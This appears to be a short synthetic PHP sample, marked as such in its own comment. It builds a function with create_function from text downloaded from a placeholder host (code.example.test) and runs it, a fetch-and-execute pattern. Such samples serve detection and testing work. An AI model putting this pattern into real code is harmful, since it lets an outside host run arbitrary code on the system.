<?php
// synthetic: a function built from code downloaded at run time
$f = create_function('', file_get_contents('http://code.example.test/c.txt'));
$f();
